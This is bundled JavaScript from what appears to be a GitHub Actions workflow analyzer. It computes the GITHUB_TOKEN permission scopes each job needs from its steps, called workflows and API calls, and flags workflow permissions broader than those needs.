/* harmony import */ var _actions_js__WEBPACK_IMPORTED_MODULE_4__ = __webpack_require__(95896);
/* harmony import */ var _commands_js__WEBPACK_IMPORTED_MODULE_5__ = __webpack_require__(15273);
/* harmony import */ var _github_api_js__WEBPACK_IMPORTED_MODULE_6__ = __webpack_require__(70493);
/* harmony import */ var _scopes_js__WEBPACK_IMPORTED_MODULE_8__ = __webpack_require__(51630);
/* harmony import */ var _token_js__WEBPACK_IMPORTED_MODULE_7__ = __webpack_require__(37990);









/** Script names that suggest a git push. */
const GIT_WRITE_HINT = /release|publish|push|\btag|bump|version|changelog|commit|sync|backport|merge/i;
const PR_EVENTS = new Set(["pull_request", "pull_request_target", "pull_request_review", "pull_request_review_comment"]);
const ISSUE_EVENTS = new Set(["issues", "issue_comment"]);
/** The GITHUB_TOKEN permissions one job needs, the steps that need each, and what we could not classify. */
/** Results for the default options, shared by the rules that ask about the same job in one run. */
const plainResults = new WeakMap();
/** The permissions a job needs. The result is shared: callers must not modify it. */
function requiredPermissions(job, workflow, options = {}) {
    const plain = Object.keys(options).length === 0;
    const cached = plain ? plainResults.get(job) : undefined;
    if (cached)
        return cached;
    const out = computeRequired(job, workflow, options);
    if (plain)
        plainResults.set(job, out);
    return out;
}
function computeRequired(job, workflow, options) {
    const out = { scopes: {}, unknown: [], reasons: {}, allowed: {}, opaque: [] };
    if (job.uses) {
        callee(job, options, out);
        return out;
    }
    const events = (0,_walk_js__WEBPACK_IMPORTED_MODULE_3__/* .eventNames */ .Z2)(workflow);
    const pullRequests = [...events].some((e) => PR_EVENTS.has(e)) && ![...events].some((e) => ISSUE_EVENTS.has(e));
    const state = { workflow, job, options, events, pullRequests, depth: 0, gitCredentials: false, ghcrLogin: undefined, implicitLogin: undefined, pushesGhcr: false };
    containerLogins(job, workflow, out);
    walkSteps(job.steps, state, out);
    if (state.ghcrLogin) {
        const level = state.pushesGhcr || out.unknown.length > 0 || out.opaque.length > 0 ? "write" : "read";
        need(out, { packages: level }, state.ghcrLogin);
    }
    else if (state.implicitLogin) {
        // setup-ko / setup-crane log in whether or not anything is pushed
        if (state.pushesGhcr)
            need(out, { packages: "write" }, state.implicitLogin);
        else
            (0,_scopes_js__WEBPACK_IMPORTED_MODULE_8__/* .mergeGrants */ .GI)(out.allowed, { packages: "write" });
    }
    return out;
}
/** Adds needs with the step that needs them. */
function need(out, grants, why) {
    for (const [scope, access] of Object.entries(grants)) {
        (0,_scopes_js__WEBPACK_IMPORTED_MODULE_8__/* .mergeGrants */ .GI)(out.scopes, { [scope]: access });
        const list = (out.reasons[scope] ??= []);
        if (!list.includes(why))
            list.push(why);
    }
}
/** Depth of called workflows being read (a workflow that calls itself stops here). */
let nestedCalls = 0;
function callee(job, options, out) {
    const raw = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)(job.uses) ?? "";
    const ref = (0,_uses_js__WEBPACK_IMPORTED_MODULE_2__/* .parseUses */ .Ap)(raw);
    const called = `\`${raw.replace(/@.*/, "")}\``;
    if (ref.kind === "remote") {
        const known = _actions_js__WEBPACK_IMPORTED_MODULE_4__/* .REUSABLE_WORKFLOWS */ .L[(0,_uses_js__WEBPACK_IMPORTED_MODULE_2__/* .actionName */ .aM)(ref)];
        if (known) {
            need(out, known.needs, `calls ${called}`);
            return;
        }
    }
    const model = nestedCalls < 3 ? options.resolveWorkflow?.(raw) : undefined;
    if (!model) {
        out.unknown.push(`${called} (a called workflow; it decides what it needs)`);
        return;
    }
    // The caller must grant what each called job declares, or what it needs when it declares nothing.
    for (const calleeJob of model.jobs) {
        const declared = calleeJob.permissions ?? model.permissions;
        if (declared?.kind === "all")
            out.unknown.push(`${called} job \`${calleeJob.id}\` (asks for ${declared.level}-all)`);
        else if (declared?.kind === "map") {
            for (const [scope, { level }] of declared.scopes)
                if (level !== "none" && (0,_scopes_js__WEBPACK_IMPORTED_MODULE_8__/* .isScope */ .T2)(scope))
                    need(out, { [scope]: level }, `${called} job \`${calleeJob.id}\``);
        }
        else {
            nestedCalls++;
            let inner;
            try {
                inner = requiredPermissions(calleeJob, model, options);
            }
            finally {
                nestedCalls--;
            }
            for (const [scope, why] of Object.entries(inner.reasons))
                need(out, { [scope]: inner.scopes[scope] }, `${called}: ${why[0] ?? ""}`);
            (0,_scopes_js__WEBPACK_IMPORTED_MODULE_8__/* .mergeGrants */ .GI)(out.allowed, inner.allowed);
            out.unknown.push(...inner.unknown.map((u) => `${called}: ${u}`));
        }
    }
}
/** `container:` / `services:` images pulled from ghcr.io with the job token need `packages: read`. */
function containerLogins(job, workflow, out) {
    const env = (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .stepEnv */ .WH)(workflow, job, undefined);
    const check = (node, what) => {
        if (!(0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .isMap */ .jh)(node))
            return;
        const image = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)((0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .valueOf */ .RP)(node, "image")) ?? "";
        const password = (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .valueText */ .Ru)((0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .valueOf */ .RP)((0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .valueOf */ .RP)(node, "credentials"), "password"));
        if (/^ghcr\.io\//i.test(image) && (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .tokenKind */ .aA)(password, env) === "job")
            need(out, { packages: "read" }, `${what} pulls ${image.replace(/[:@].*/, "")}`);
    };
    check(job.container, "the job container");
    if ((0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .isMap */ .jh)(job.services))
        for (const item of job.services.items)
            check(item.value, `service \`${(0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)(item.key) ?? ""}\``);
}
/** A push target that is, or may be, ghcr.io: it names it, or it is computed (`${{ steps.meta.outputs.tags }}`, `$IMAGE`). */
function mayBeGhcr(target, env) {
    const resolved = substituteEnv(target, env).replace(/\$\{?([A-Za-z_]\w*)\}?/g, (whole, name) => env.get(name) ?? whole);
    if (/ghcr\.io/i.test(resolved))
        return true;
    return resolved.trim() === "" || /\$\{\{|\$\{?[A-Za-z_]/.test(resolved);
}
function walkSteps(steps, state, out) {
    for (const step of steps) {
        const env = (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .stepEnv */ .WH)(state.workflow, state.job, step);
        if (step.uses)
            actionStep(step, env, state, out);
        else if (step.run)
            shellStep(step, (0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)(step.run) ?? "", env, state.pullRequests, state, out);
    }
}
function actionStep(step, env, state, out) {
    const raw = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)(step.uses) ?? "";
    const ref = (0,_uses_js__WEBPACK_IMPORTED_MODULE_2__/* .parseUses */ .Ap)(raw);
    const inputs = actionInputs(step, env, state.events, state.gitCredentials);
    const handsToken = [...step.with.values()].some((v) => (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .tokenKind */ .aA)((0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .valueText */ .Ru)(v), env) === "job") || [...step.env.values()].some((v) => (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .tokenKind */ .aA)((0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .valueText */ .Ru)(v), env) === "job");
    if (ref.kind === "local") {
        const local = state.depth < 3 ? state.options.resolveAction?.(ref.path) : undefined;
        if (local?.using === "composite") {
            state.depth++;
            walkSteps(local.steps.map((inner) => withInputs(inner, step, local)), state, out);
            state.depth--;
        }
        else
            out.unknown.push(unknownAction(step, local ? `a local ${local.using ?? ""} action` : "a local action, not read"));
        return;
    }
    if (ref.kind === "docker") {
        if (handsToken)
            out.unknown.push(unknownAction(step, "a container given the job token"));
        return;
    }
    const name = (0,_uses_js__WEBPACK_IMPORTED_MODULE_2__/* .actionName */ .aM)(ref);
    const entry = _actions_js__WEBPACK_IMPORTED_MODULE_4__/* .ACTIONS */ .k[name];
    if (!entry) {
        out.unknown.push(unknownAction(step, "not in the knowledge base"));
        return;
    }
    const why = stepLabel(step);
    const usesJob = usesJobToken(entry.token, inputs, env, state.gitCredentials);
    if (usesJob && entry.needs)
        need(out, entry.needs, why);
    for (const cond of entry.when ?? []) {
        if ((cond.viaToken === false || usesJob) && cond.test(inputs)) {
            if (cond.mayNeed)
                (0,_scopes_js__WEBPACK_IMPORTED_MODULE_8__/* .mergeGrants */ .GI)(out.allowed, cond.needs);
            else
                need(out, cond.needs, why);
        }
    }
    if (entry.allows)
        (0,_scopes_js__WEBPACK_IMPORTED_MODULE_8__/* .mergeGrants */ .GI)(out.allowed, entry.allows);
    const login = entry.ghcrLogin?.(inputs);
    if (login === "implicit" && !env.has("KO_DOCKER_REPO"))
        state.implicitLogin ??= why;
    else if (login === true)
        state.ghcrLogin ??= why;
    const target = entry.pushes?.(inputs);
    if (target !== undefined && target !== false && mayBeGhcr(target, env))
        state.pushesGhcr = true;
    if (entry.code)
        codeInput(step, entry, inputs, usesJob, env, state.pullRequests, state, out);
    if (name === "actions/checkout") {
        const persisted = usesJob && !/^\s*false\s*$/i.test(inputs.input("persist-credentials") ?? "");
        // a checkout into a sub-folder leaves the workspace repository's credentials alone
        const intoRoot = !/\S/.test((inputs.input("path") ?? "").replace(/^\.\/?$/, ""));
        state.gitCredentials = intoRoot ? persisted : state.gitCredentials || persisted;
    }
}
function codeInput(step, entry, inputs, usesJob, env, pullRequests, state, out) {
    const code = entry.code;
    if (!code)
        return;
    const text = inputs.input(code.input) ?? "";
    if (code.kind === "shell") {
        shellStep(step, text, env, pullRequests, state, out);
        return;
    }
    if (/\bcore\.getIDToken\s*\(/.test(text))
        need(out, { "id-token": "write" }, stepLabel(step));
    if (/\bexec\.(?:exec|getExecOutput)\s*\(|child_process/.test(text)) {
        // the commands it runs see the step's environment
        if ((0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .tokenVariables */ .fK)(env).size > 0 && [...step.env.values()].some((v) => (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .tokenKind */ .aA)((0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .valueText */ .Ru)(v), env) === "job"))
            out.unknown.push(`${stepLabel(step)} (runs commands with the job token)`);
        else
            out.opaque.push(`${stepLabel(step)} (runs commands)`);
    }
    if (!usesJob)
        return;
    for (const use of (0,_github_api_js__WEBPACK_IMPORTED_MODULE_6__/* .githubScriptUses */ .jJ)(text, pullRequests)) {
        need(out, use.grants, stepLabel(step));
        if (use.allows)
            (0,_scopes_js__WEBPACK_IMPORTED_MODULE_8__/* .mergeGrants */ .GI)(out.allowed, use.allows);
        if (use.unknown)
            out.unknown.push(`${stepLabel(step)} (${use.unknown})`);
    }
}
function shellStep(step, script, env, pullRequests, state, out) {
    const tokenVars = (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .tokenVariables */ .fK)(env);
    const stepTokenVars = new Set([...tokenVars].filter((name) => step.env.has(name)));
    const use = (0,_commands_js__WEBPACK_IMPORTED_MODULE_5__/* .scriptUse */ .ZE)(script, { env, tokenVars, stepTokenVars, gitCredentials: state.gitCredentials, pullRequests });
    const why = stepLabel(step);
    for (const n of use.needs)
        need(out, { [n.scope]: n.access }, `${why}: \`${n.why}\``);
    (0,_scopes_js__WEBPACK_IMPORTED_MODULE_8__/* .mergeGrants */ .GI)(out.allowed, use.allows);
    const command = (cmd, what) => (step.name ? `${why} (\`${cmd}\` ${what})` : `\`${cmd}\` (${what})`);
    for (const u of use.unknown)
        out.unknown.push(command(u, "gets the job token"));
    for (const o of use.opaque) {
        out.opaque.push(command(o, "runs code we cannot see"));
        // the job token sits in the git config: a release script may push with it
        if (state.gitCredentials && GIT_WRITE_HINT.test(o) && !use.unknown.includes(o))
            out.unknown.push(command(o, "may push with the token actions/checkout left in git"));
    }
    if (use.ghcrLogin)
        state.ghcrLogin ??= why;
    if (use.pushTargets.some((t) => mayBeGhcr(t, env)))
        state.pushesGhcr = true;
    state.gitCredentials = use.gitCredentials;
}
/** The job token reaches the action through one of its token inputs, env variables or git. */
function usesJobToken(source, inputs, env, gitCredentials) {
    if (!source)
        return false;
    for (const name of source.inputs ?? [])
        if (inputs.input(name) !== undefined)
            return inputs.token(name) === "job";
    for (const name of source.env ?? [])
        if (env.has(name))
            return (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .tokenKind */ .aA)(env.get(name), env) === "job";
    if (source.git && gitCredentials)
        return true;
    return source.defaultJob === true && (source.inputs !== undefined || source.env === undefined);
}
function actionInputs(step, env, events, gitCredentials) {
    const byName = new Map();
    for (const [name, node] of step.with)
        byName.set(name.toLowerCase(), (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .valueText */ .Ru)(node));
    const input = (name) => {
        const value = byName.get(name.toLowerCase());
        return value === undefined ? undefined : substituteEnv(value, env);
    };
    return {
        input,
        token: (name) => (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .tokenKind */ .aA)(byName.get(name.toLowerCase()), env),
        events,
        gitCredentials,
    };
}
/** `${{ env.REGISTRY }}` → the variable's value, so that `registry: ${{ env.REGISTRY }}` reads as ghcr.io. */
function substituteEnv(value, env) {
    return value.replace(/\$\{\{\s*env\.([A-Za-z_][\w-]*)\s*\}\}/g, (whole, name) => env.get(name) ?? whole);
}
/**
 * A composite action's step as its caller runs it: `${{ inputs.x }}` replaced by what the caller
 * passed in `with:`, else by the input's default (often `${{ github.token }}`).
 */
function withInputs(inner, caller, action) {
    const values = new Map();
    for (const [name, pair] of (0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .entries */ .jO)((0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .valueOf */ .RP)(action.source.root, "inputs")))
        values.set(name.toLowerCase(), (0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .textOf */ .b6)(pair.value, "default") ?? "");
    for (const [name, node] of caller.with)
        values.set(name.toLowerCase(), (0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .valueText */ .Ru)(node));
    const sub = (text) => text.replace(/\$\{\{\s*inputs\.([\w-]+)\s*\}\}/g, (whole, name) => values.get(name.toLowerCase()) ?? whole);
    const map = (m) => new Map([...m].map(([k, v]) => [k, new yaml__WEBPACK_IMPORTED_MODULE_0__.Scalar(sub((0,_token_js__WEBPACK_IMPORTED_MODULE_7__/* .valueText */ .Ru)(v)))]));
    return {
        ...inner,
        name: inner.name ?? caller.name,
        with: map(inner.with),
        env: map(inner.env),
        run: inner.run ? new yaml__WEBPACK_IMPORTED_MODULE_0__.Scalar(sub((0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)(inner.run) ?? "")) : undefined,
    };
}
/** "step `Setup Go` (`./.github/actions/go`, a local action, not read)". */
function unknownAction(step, why) {
    const uses = ((0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)(step.uses) ?? "").replace(/@.*/, "");
    return step.name ? `${stepLabel(step)} (\`${uses}\`: ${why})` : `\`${uses}\` (${why})`;
}
/** How a step is named in messages: its `name:`, else its action, else its script's first line. */
function stepLabel(step) {
    if (step.name)
        return `step \`${step.name}\``;
    const uses = (0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)(step.uses);
    if (uses)
        return `\`${uses.replace(/@.*/, "")}\``;
    const first = ((0,_model_source_js__WEBPACK_IMPORTED_MODULE_1__/* .scalarText */ .ws)(step.run) ?? "").split("\n").find((l) => l.trim() !== "")?.trim() ?? "";
    return `\`run: ${first.length > 40 ? `${first.slice(0, 37)}...` : first}\``;
}
//# sourceMappingURL=compute.js.map

/***/ }),

/***/ 61456:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   CG: () => (/* binding */ requirementsOf),
/* harmony export */   KR: () => (/* binding */ narrowedTop),
/* harmony export */   Or: () => (/* binding */ exceeds),
/* harmony export */   fm: () => (/* binding */ topExcess),
/* harmony export */   kL: () => (/* binding */ declaredGrants),
/* harmony export */   lJ: () => (/* binding */ jobExcess),
/* harmony export */   yH: () => (/* binding */ inheritors),
/* harmony export */   yv: () => (/* binding */ topFlagged)
/* harmony export */ });
/* harmony import */ var _compute_js__WEBPACK_IMPORTED_MODULE_0__ = __webpack_require__(72410);
/* harmony import */ var _scopes_js__WEBPACK_IMPORTED_MODULE_1__ = __webpack_require__(51630);


/** What a `permissions:` block grants, as scopes (`none` and unknown names dropped). */
function declaredGrants(block) {
    if (block.kind === "all")
        return (0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .allScopes */ .Dn)(block.level);
    const out = {};
    for (const [name, { level }] of block.scopes)
        if ((0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .isScope */ .T2)(name) && level !== "none")
            out[name] = level;
    return out;
}
/**
 * True when granting `scope` at `level` is more than the job needs. `contents: read` is never
 * excess (the restricted default, and what most scripts assume), nor is `id-token: write` in a
 * job that runs code we cannot see (a test suite or script can request an OIDC token).
 */
function exceeds(scope, level, req) {
    const needed = (0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .maxAccess */ .Vj)(req.scopes[scope], req.allowed[scope]);
    if ((0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .covers */ .hU)(needed, level))
        return false;
    if (scope === "contents" && level === "read")
        return false;
    if (scope === "id-token" && req.opaque.length > 0)
        return false;
    return true;
}
/** Scopes of a job's own map block it does not need; none when the job has steps we could not classify. */
function jobExcess(block, req) {
    if (block.kind !== "map" || req.unknown.length > 0)
        return [];
    const out = [];
    for (const [name, { level, pos }] of block.scopes) {
        if (!(0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .isScope */ .T2)(name) || level === "none")
            continue;
        if (exceeds(name, level, req))
            out.push({ scope: name, declared: level, pos });
    }
    return out;
}
/** Scopes of the top-level map block that some inheriting job does not need, or (writes) that no job inherits. */
function topExcess(workflow, reqs) {
    const block = workflow.permissions;
    if (!block || block.kind !== "map")
        return [];
    const heirs = inheritors(workflow);
    const out = [];
    for (const [name, { level, pos }] of block.scopes) {
        if (!(0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .isScope */ .T2)(name) || level === "none")
            continue;
        if (heirs.length === 0) {
            if (level === "write")
                out.push({ scope: name, declared: level, pos, unneededBy: [], neededBy: [] });
            continue;
        }
        const unneededBy = [];
        const neededBy = [];
        for (const job of heirs) {
            const req = reqs.get(job.id);
            if (!req || req.unknown.length > 0 || !exceeds(name, level, req))
                neededBy.push(job.id);
            else
                unneededBy.push(job.id);
        }
        if (unneededBy.length > 0)
            out.push({ scope: name, declared: level, pos, unneededBy, neededBy });
    }
    return out;
}
/** True when the excessive-permissions rule reports the top-level block. */
function topFlagged(workflow, reqs) {
    const block = workflow.permissions;
    if (!block)
        return false;
    if (block.kind === "all")
        return block.level === "write" || inheritors(workflow).length > 0;
    return topExcess(workflow, reqs).length > 0;
}
/**
 * The top-level map cut down to what its inheriting jobs use, when that is enough to clear every
 * finding on it (no scope is needed by one job and too much for another); undefined otherwise.
 */
function narrowedTop(workflow, reqs) {
    const block = workflow.permissions;
    if (!block || block.kind !== "map")
        return undefined;
    const heirs = inheritors(workflow);
    const out = {};
    for (const [scope, level] of (0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .grantEntries */ .nE)(declaredGrants(block))) {
        let keep;
        for (const job of heirs) {
            const req = reqs.get(job.id);
            if (!req || req.unknown.length > 0)
                return undefined; // it may need anything it has now
            const used = (0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .maxAccess */ .Vj)(req.scopes[scope], req.allowed[scope]);
            keep = (0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .maxAccess */ .Vj)(keep, used === "write" ? level : used);
        }
        if (scope === "contents" && level === "read" && heirs.length > 0)
            keep = "read";
        if (keep)
            out[scope] = keep;
    }
    for (const job of heirs) {
        const req = reqs.get(job.id);
        if (!req)
            return undefined;
        for (const [scope, level] of (0,_scopes_js__WEBPACK_IMPORTED_MODULE_1__/* .grantEntries */ .nE)(out))
            if (exceeds(scope, level, req))
                return undefined;
    }
    return out;
}
/** Jobs without a `permissions:` block of their own: they get the top-level one (or the default). */
function inheritors(workflow) {
    return workflow.jobs.filter((job) => !job.permissions);
}
/** What each job needs, by job id. */
function requirementsOf(workflow, options = {}) {
    return new Map(workflow.jobs.map((job) => [job.id, (0,_compute_js__WEBPACK_IMPORTED_MODULE_0__/* .requiredPermissions */ .k)(job, workflow, options)]));
}
//# sourceMappingURL=excess.js.map

/***/ }),

/***/ 70493:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   jJ: () => (/* binding */ githubScriptUses),
/* harmony export */   ok: () => (/* binding */ restUse)
/* harmony export */ });
/* unused harmony export octokitUse */
const NOTHING = { grants: {} };
/**
 * Issue comments, labels and reactions work on pull requests too, and GitHub accepts either
 * `issues` or `pull-requests` for them: pick the one the workflow's trigger points at.
 */
function issueLike(access, pullRequests) {
    return pullRequests
        ? { grants: { "pull-requests": access }, allows: { issues: access } }
        : { grants: { issues: access }, allows: { "pull-requests": access } };
}
function one(scope, access) {
    return { grants: { [scope]: access } };
}
/** `GET /repos/{owner}/{repo}/pulls/1`, `repos/$GITHUB_REPOSITORY/issues`, a full api.github.com URL... */
function restUse(method, rawPath, pullRequests) {
    const verb = method.toUpperCase();
    const access = verb === "GET" || verb === "HEAD" ? "read" : "write";
    const path = rawPath
        .replace(/^https?:\/\/[^/]+/, "")
        .replace(/^\$\{\{\s*github\.api_url\s*\}\}/i, "")
        .replace(/^\$\{?GITHUB_API_URL\}?/, "")
        .replace(/[?#].*$/, "")
        .replace(/^\/+/, "");
    const parts = path.split("/").filter((p) => p !== "");
    const head = parts[0]?.toLowerCase();
    if (head === "graphql")
        return { grants: {}, unknown: "a GraphQL call" };
    if (head === "search" || head === "users" || head === "rate_limit" || head === "meta" || head === "emojis" || head === "licenses" || head === "gitignore" || head === "octocat" || head === "zen") {
        return access === "read" ? NOTHING : { grants: {}, unknown: `${verb} /${path}` };
    }
    if (head !== "repos")
        return { grants: {}, unknown: `${verb} /${path}` };
    // repos/{owner}/{repo}/... or repos/$GITHUB_REPOSITORY/... (owner and name in one variable)
    const combined = /GITHUB_REPOSITORY\b|github\.repository\b/i.test(parts[1] ?? "") && !/_OWNER|repository_owner/i.test(parts[1] ?? "");
    const rest = parts.slice(combined ? 2 : 3).map((p) => p.toLowerCase());
    return repoUse(verb, access, rest, pullRequests) ?? { grants: {}, unknown: `${verb} /${path}` };
}
function repoUse(verb, access, rest, pullRequests) {
    const [resource, , sub] = rest;
    switch (resource) {
        case undefined:
            return access === "read" ? NOTHING : undefined; // PATCH /repos/x/y is an admin call
        case "issues": {
            // issues/{n}, its comments, labels and reactions also address pull requests
            const shared = rest[1] === "comments" || (rest[1] !== undefined && (rest[2] === undefined || ["comments", "labels", "reactions", "assignees"].includes(rest[2])));
            return shared ? issueLike(access, pullRequests) : one("issues", access);
        }
        case "labels":
        case "milestones":
        case "assignees":
            return one("issues", access);
        case "pulls":
            if (sub === "merge" && access === "write")
                return { grants: { contents: "write", "pull-requests": "write" } };
            return one("pull-requests", access);
        case "commits":
            if (sub === "status" || sub === "statuses")
                return one("statuses", "read");
            if (sub === "check-runs" || sub === "check-suites")
                return one("checks", "read");
            if (sub === "pulls")
                return one("pull-requests", "read");
            return one("contents", access);
        case "statuses":
            return one("statuses", access);
        case "check-runs":
        case "check-suites":
            return one("checks", access);
        case "releases":
        case "git":
        case "contents":
        case "branches":
        case "tags":
        case "merges":
        case "merge-upstream":
        case "compare":
        case "tarball":
        case "zipball":
        case "readme":
        case "dispatches":
        case "comments":
            return resource === "branches" && access === "write" ? undefined : one("contents", access);
        case "dependency-graph":
            return one("contents", rest[1] === "snapshots" ? "write" : "read");
        case "deployments":
            return one("deployments", access);
        case "environments":
            return access === "read" ? one("actions", "read") : undefined;
        case "actions":
            if (rest[1] === "secrets" || rest[1] === "variables" || rest[1] === "permissions" || rest[1] === "runners")
                return undefined;
            return one("actions", access);
        case "pages":
            return one("pages", access);
        case "code-scanning":
            return one("security-events", access);
        case "attestations":
            return one("attestations", access);
        case "collaborators":
        case "languages":
        case "topics":
        case "contributors":
        case "stargazers":
        case "subscribers":
        case "events":
        case "forks":
            return access === "read" ? NOTHING : undefined;
        default:
            return undefined;
    }
}
const READ_METHOD = /^(get|list|check|compare|download|search|export)/;
/** Octokit groups that need no permission of the repository (public data, the caller's own limits). */
const PUBLIC_GROUPS = new Set(["search", "users", "meta", "ratelimit", "markdown", "licenses", "emojis", "gitignore", "codesofconduct"]);
/**
 * `github.rest.<group>.<method>` in an actions/github-script script. Read or write follows the
 * method's verb (`get`/`list` read, anything else writes); the scope follows the group, and for
 * `repos` the method.
 */
function octokitUse(group, method, pullRequests) {
    const g = group.toLowerCase();
    const access = READ_METHOD.test(method) ? "read" : "write";
    const what = `github.rest.${group}.${method}`;
    if (PUBLIC_GROUPS.has(g))
        return access === "read" ? NOTHING : { grants: {}, unknown: what };
    switch (g) {
        case "issues":
            return /Comment|Label|Reaction/.test(method) || method === "get" || method === "update" ? issueLike(access, pullRequests) : one("issues", access);
        case "reactions":
            return /CommitComment/.test(method) ? one("contents", access) : /PullRequest/.test(method) ? one("pull-requests", access) : issueLike(access, pullRequests);
        case "pulls":
            return method === "merge" ? { grants: { contents: "write", "pull-requests": "write" } } : one("pull-requests", access);
        case "git":
        case "dependencygraph":
            return one("contents", method === "createRepositorySnapshot" ? "write" : access);
        case "actions":
            return /Secret|Variable|Permission|Runner|Oidc/.test(method) ? { grants: {}, unknown: what } : one("actions", access);
        case "checks":
            return one("checks", access);
        case "codescanning":
            return one("security-events", access);
        case "packages":
            return one("packages", access);
        case "repos":
            return reposUse(method, access) ?? { grants: {}, unknown: what };
        default:
            return { grants: {}, unknown: what };
    }
}
function reposUse(method, access) {
    if (/CommitStatus|StatusForRef|StatusesForRef/.test(method))
        return one("statuses", access);
    if (/Deployment/.test(method))
        return one("deployments", access);
    if (/Pages/.test(method))
        return one("pages", access);
    if (/Release|Content|File|Commit|Branch|Tag|Readme|Archive|Dispatch|^merge|Tarball|Zipball/.test(method)) {
        if (/BranchProtection|Protection|renameBranch/.test(method))
            return undefined;
        return one("contents", access);
    }
    if (access === "read" && /^(get|listLanguages|listTopics|listContributors|getCollaboratorPermissionLevel|checkCollaborator|listCollaborators|listForks)$/.test(method))
        return NOTHING;
    return undefined;
}
const OCTOKIT_CALL = /\b(?:github|octokit)\.(?:rest\.)?([a-zA-Z]+)\.([a-zA-Z]+)\s*(?:\(|,|\))/g;
const OCTOKIT_REQUEST = /\b(?:github|octokit)\.(?:request|paginate)\(\s*["'`](GET|POST|PUT|PATCH|DELETE)\s+([^"'`]+)["'`]/g;
// `github.event.x` and friends are the expression context, not the Octokit client
const NOT_GROUPS = new Set(["rest", "request", "paginate", "graphql", "context", "hook", "log", "auth", "event", "repository", "workflow", "action", "actor", "ref", "sha", "job", "token"]);
/** Every GitHub API call an actions/github-script `script` makes, classified. */
function githubScriptUses(script, pullRequests) {
    const uses = [];
    for (const match of script.matchAll(OCTOKIT_CALL)) {
        const group = match[1] ?? "";
        if (NOT_GROUPS.has(group))
            continue;
        const use = octokitUse(group, match[2] ?? "", pullRequests);
        uses.push(use.unknown ? { ...use, unknown: `calls ${use.unknown}` } : use);
    }
    for (const match of script.matchAll(OCTOKIT_REQUEST)) {
        const use = restUse(match[1] ?? "GET", match[2] ?? "", pullRequests);
        uses.push(use.unknown ? { ...use, unknown: `calls ${use.unknown}` } : use);
    }
    if (/\b(?:github|octokit)\.graphql\b/.test(script))
        uses.push({ grants: {}, unknown: "calls github.graphql" });
    if (/\brequire\s*\(|\bimport\s*\(/.test(script))
        uses.push({ grants: {}, unknown: "loads code from a file" });
    if (/\bgetOctokit\s*\(/.test(script) && !/getOctokit\s*\(\s*process\.env/.test(script))
        uses.push({ grants: {}, unknown: "builds its own client with getOctokit()" });
    return uses;
}
//# sourceMappingURL=github-api.js.map

/***/ }),

/***/ 51630:
/***/ ((__unused_webpack___webpack_module__, __webpack_exports__, __webpack_require__) => {

/* harmony export */ __webpack_require__.d(__webpack_exports__, {
/* harmony export */   Dn: () => (/* binding */ allScopes),
/* harmony export */   GI: () => (/* binding */ mergeGrants),
/* harmony export */   N_: () => (/* binding */ formatGrants),
/* harmony export */   T2: () => (/* binding */ isScope),
/* harmony export */   Vj: () => (/* binding */ maxAccess),
/* harmony export */   hU: () => (/* binding */ covers),
/* harmony export */   iW: () => (/* binding */ SCOPES),
/* harmony export */   nE: () => (/* binding */ grantEntries)
/* harmony export */ });
/** The GITHUB_TOKEN permission scopes a `permissions:` block can set (`metadata: read` is implicit). */
const SCOPES = [
    "actions",
    "attestations",
    "checks",
    "contents",
    "deployments",
    "discussions",
    "id-token",
    "issues",
    "models",
    "packages",
    "pages",
    "pull-requests",
    "repository-projects",
    "security-events",
    "statuses",
];
function isScope(name) {
    return SCOPES.includes(name);
}
/** `write` includes `read`. */
function covers(granted, needed) {
    if (granted === "write")
        return true;
    return granted === "read" && needed === "read";
}
function maxAccess(a, b) {
    if (a === "write" || b === "write")
        return "write";
    return a ?? b;
}
/** Adds `from` into `into`, keeping the higher level of each scope; returns `into`. */
function mergeGrants(into, from) {
    for (const [scope, access] of grantEntries(from))
        into[scope] = maxAccess(into[scope], access);
    return into;
}
